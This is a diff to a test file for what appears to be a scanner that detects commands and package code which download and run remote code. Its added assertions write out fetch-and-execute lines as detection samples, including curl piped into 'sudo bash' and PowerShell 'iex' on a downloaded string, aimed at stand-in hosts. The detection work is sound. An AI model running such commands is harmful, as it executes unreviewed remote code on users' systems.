@@ -21,6 +21,10 @@ describe("downloadRunIn", () => {
     expect(downloadRunIn("curl -sSLo ./agent https://x.example/a; chmod 755 agent")).toBe("a download saved, then run or made executable");
     expect(downloadRunIn("wget -q -O install.sh https://x.example/i && sh install.sh --yes")).toBe("a download saved, then run or made executable");
     expect(downloadRunIn("curl -o /tmp/p.py https://x.example/p; python3 /tmp/p.py")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("curl https://x.example/i.sh > /tmp/x.sh && sh /tmp/x.sh")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("curl -s https://x.example/i | sudo -E bash -s -- --quiet 2>&1")).toBe("a download piped into a shell");
+    expect(downloadRunIn("iex (iwr -UseBasicParsing https://x.example/a)")).toBe("PowerShell running a downloaded string");
+    expect(downloadRunIn("(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex")).toBe("PowerShell running a downloaded string");
   });
 
   it("leaves downloads kept as files or data alone", () => {
@@ -32,6 +36,13 @@ describe("downloadRunIn", () => {
       "curl https://x.example | shasum -a 256",
       "curl -o data.json https://x.example/d && jq . data.json && chmod 644 data.json",
       "curl -o a.tgz https://x.example/a.tgz && tar xzf a.tgz && ./a/run",
+      // Interpreters given code of their own, `||`, and fetch that is no download.
+      `curl -s https://api.github.com/repos/o/r/releases/latest | python3 -c "import sys, json; print(json.load(sys.stdin)['tag_name'])"`,
+      `curl -s https://registry.npmjs.org/pkg | node -e "process.stdin.pipe(process.stdout)"`,
+      "command -v curl >/dev/null 2>&1 || node ./scripts/download.js",
+      "curl -fsS http://localhost:3000/health || sh ./scripts/restart.sh",
+      "node scripts/fetch.js | node scripts/summarize.js",
+      "git fetch --dry-run 2>&1 | node ./bin/parse-refs.js",
     ]) {
       expect(downloadRunIn(line), line).toBeUndefined();
     }
@@ -67,7 +78,10 @@ describe("code a package downloads and runs", () => {
     expect(at(14)!.message).toContain("(axios.get from evil.example)");
     expect(at(20)!.message).toContain("(https.get from evil.example)");
     expect(at(23)!.message).toBe("Hands eval what it downloads (fetch from evil.example): code no reviewer has seen, which its server can change at will");
-    // Code worked out at run time that no download gives stays medium.
-    expect(at(44)?.severity).toBe("medium");
+    // Code worked out at run time that no download gives stays medium: a parameter named as another
+    // function's downloaded variable, a tool's handler registered inside a fetch's step.
+    for (const line of [44, 55, 66]) expect(at(line)?.severity, `line ${line}`).toBe("medium");
+    expect(at(73)?.message).toContain("(axios.get from evil.example)");
+    expect(at(76)?.severity).toBe("high");
   });
 });
